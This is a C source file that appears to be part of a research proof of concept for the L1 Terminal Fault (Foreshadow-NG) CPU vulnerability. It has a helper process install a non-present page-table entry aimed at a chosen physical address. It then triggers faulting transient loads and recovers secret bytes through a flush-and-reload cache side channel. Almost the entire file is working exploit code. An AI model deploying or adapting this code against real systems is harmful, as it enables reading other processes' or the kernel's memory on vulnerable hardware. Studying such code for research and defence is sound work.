/*
 * L1 terminal fault ("Foreshadow-NG": Weisse et al., 2018), from a process: a load by a page-table
 * entry that is not present ends with a fault, but until then the address in the entry is taken for
 * a physical one, and if that line is in the first-level cache, its bytes are used.
 *
 * Linux makes no such entry any more; a set-up program makes one.
 */
#include "attack.h"

#include <sys/mman.h>

#include "channel.h"
#include "entries.h"
#include "faulting.h"
#include "secret.h"

enum { PAGE_BYTES = 4096 };

static const uint8_t *probe;
static uint8_t *page;

static void change_entry(int entries, uint64_t physical)
{
	struct entry_request request = { .page = (uintptr_t)page, .physical = physical };
	char answer;

	if (write(entries, &request, sizeof(request)) != sizeof(request) || read(entries, &answer, 1) != 1 || !answer)
		errx(1, "expected a page-table entry to be made");
}

static int sample(int index)
{
	static int samples;

	/* Which lines the kernel displaces from the cache depends on the way back from the service. */
	if (samples++ & 1)
		use_secret_beside(index);
	else
		use_secret(index);
	flush_probe(probe);
	flush_delays();
	send_faulting(page + options.physical % PAGE_BYTES + index, probe);
	return reload_probe(probe);
}

int main(int argc, char **argv)
{
	int entries;

	parse_options(argc, argv);
	if (!options.physical)
		errx(2, "expected --physical");
	open_secret();
	entries = connect_to(options.entries, SOCK_SEQPACKET);
	catch_faults();
	calibrate();
	probe = own_probe();
	page = mmap(NULL, PAGE_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		err(1, "mmap");
	memset(page, 1, PAGE_BYTES);
	if (mprotect(page, PAGE_BYTES, PROT_NONE))
		err(1, "mprotect");
	change_entry(entries, options.physical);
	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
	change_entry(entries, 0);
	return 0;
}
